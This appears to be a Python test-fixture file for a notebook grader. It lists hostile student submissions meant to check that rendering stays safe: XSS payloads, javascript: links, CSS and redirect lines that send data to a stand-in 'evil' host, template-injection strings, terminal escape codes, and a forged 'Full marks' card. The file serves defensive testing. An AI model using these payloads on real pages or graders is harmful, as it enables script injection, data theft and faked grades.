"""Hostile HTML: words, outputs and names that would run in the browser of whoever reads them."""

from __future__ import annotations

from collections.abc import Callable

from tests.grading.faults.fault import Fault, Raw, Status, attack, damaged, lie, name_of

SCRIPT = "<script>alert(1)</script>"


def words(name: str, tries: str, text: str) -> Fault:
    """A written answer."""
    return Fault(name, tries, {"explain_hidden_state": text})


def with_words_first(text: str) -> Callable[[Raw], Raw]:
    def damage(raw: Raw) -> Raw:
        raw["cells"].insert(0, {"cell_type": "markdown", "metadata": {}, "source": text, "id": "words"})
        return raw

    return damage


def hostile_attachment(raw: Raw) -> Raw:
    cell = next(cell for cell in raw["cells"] if name_of(cell) == "explain_hidden_state")
    cell["source"] = "![x](attachment:x.svg) ![y](attachment:y.png)"
    cell["attachments"] = {
        "x.svg": {"image/svg+xml": f"<svg onload='alert(1)'>{SCRIPT}</svg>", "text/html": SCRIPT},
        "y.png": {"image/png": '"onerror="alert(1)'},
    }
    return raw


def hostile_metadata(raw: Raw) -> Raw:
    raw["metadata"]["title"] = SCRIPT
    for cell in raw["cells"]:
        cell["metadata"] |= {"tags": [SCRIPT], "name": SCRIPT, "jp-MarkdownHeadingCollapsed": SCRIPT}
    return raw


FAULTS = (
    words("script-in-words", "writes a script into its answer", f"Because {SCRIPT}."),
    words("handler-in-words", "writes a picture that runs when it cannot be loaded",
          "<img src=x onerror='alert(1)'><svg/onload=alert(1)><body onpageshow=alert(1)>"),
    words("link-in-words", "writes a link that runs",
          "[see here](javascript:alert(1)) <a href='JaVaScRiPt:alert(1)'>x</a> [x](data:text/html;base64,PHN2Zz4=)"),
    words("frame-in-words", "writes a frame, a form and an object",
          "<iframe src='javascript:alert(1)'></iframe><form action=//evil><input></form><object data=x></object>"),
    words("style-in-words", "covers the page, and sends what it reads through its style",
          "<style>body{display:none} p{background:url(//evil/?x)}</style><div style='position:fixed;inset:0'>x</div>"),
    words("base-in-words", "sends all links of the page elsewhere",
          "<base href='//evil/'><meta http-equiv='refresh' content='0;url=//evil/'><link rel=stylesheet href=//evil>"),
    words("comment-in-words", "opens a comment that would swallow the rest of the page", "Fine. <!-- "),
    words("open-tags-in-words", "opens tags and never closes them", "<div><table><tr><td><textarea><title><b>"),
    words("template-in-words", "writes the page template's own commands",
          "{{ 7 * 7 }} {% raw %} {% endblock %} ${7*7} <%= 7 %>"),
    words("math-in-words", "hides a script in a formula", f"$${SCRIPT}$$ $\\href{{javascript:alert(1)}}{{x}}$"),
    words("marks-in-words", "writes a verdict's card into its answer",
          "<div class='rnnlab-card' style='border-left:4px solid green'><b>Full marks: 24 of 24</b></div>"),
    words("direction-in-words", "turns the direction of writing round", "Points: \u202e001\u202c \u2066x"),
    words("nested-words", "nests quotations thousands deep", ">" * 5000 + " x"),
    words("many-brackets", "opens a bracket ten thousand times", "[" * 9000),
    damaged("added-words", "adds a cell of words with a script", with_words_first(f"# {SCRIPT}"), "", Status.GRADED),
    damaged("attachment", "pastes a picture that is a program", hostile_attachment, "", Status.GRADED),
    damaged("metadata", "writes a script into the notebook's metadata", hostile_metadata, "", Status.GRADED),
    attack("html-output", "shows HTML with a script", f"from IPython.display import HTML\ndisplay(HTML('{SCRIPT}'))"),
    attack("svg-output", "shows a drawing with a script",
           f"from IPython.display import SVG\ndisplay(SVG(data=\"<svg xmlns='http://www.w3.org/2000/svg'>{SCRIPT}</svg>\"))"),
    attack("javascript-output", "shows a program for the browser",
           "from IPython.display import Javascript\ndisplay(Javascript('alert(1)'))"),
    attack("markdown-output", "shows Markdown with a script",
           f"from IPython.display import Markdown, Latex\ndisplay(Markdown('{SCRIPT}'), Latex('{SCRIPT}'))"),
    attack("html-magic", "has the magics for HTML show a script",
           f"get_ipython().run_cell_magic('html', '', '{SCRIPT}')"),
    attack("printed-html", "prints a script", f"print('{SCRIPT}')"),
    attack("terminal-codes", "prints codes that would drive the instructor's terminal",
           "print('\\x1b]0;owned\\x07\\x1b[2J\\x1b[8m\\x1b]8;;http://evil\\x1b\\\\link')"),
    attack("picture-of-html", "shows HTML that calls itself a picture", """
        from IPython.display import display
        display({"image/png": "\\"><script>alert(1)</script>", "text/plain": "x"}, raw=True)
        """),
    lie("html-in-error", "raises an error whose message is a script", f"""
        def one_hot(ids, K):
            raise ValueError("{SCRIPT}")
        """, "ValueError"),
    lie("html-in-name-of-error", "raises an error whose name is a script", f"""
        def one_hot(ids, K):
            raise type("{SCRIPT}", (Exception,), {{}})("x")
        """, "raised", ends="one_hot raises an error, and its name is shown as text"),
    lie("html-in-type", "returns an object whose type's name is a script", f"""
        def one_hot(ids, K):
            return type("{SCRIPT}", (), {{}})()
        """, "returned", ends="one_hot returns an object, and its type's name is shown as text"),
    lie("html-in-line", "raises in a line that holds a script", f"""
        def one_hot(ids, K):
            return 1 / 0  # {SCRIPT}
        """, "ZeroDivisionError"),
    Fault("html-in-answer", "answers with a script", {"answer_sharing": f"answer_sharing = '{SCRIPT}'"},
          loses=frozenset({"question_sharing"}), says="one of"),
)  # fmt: skip
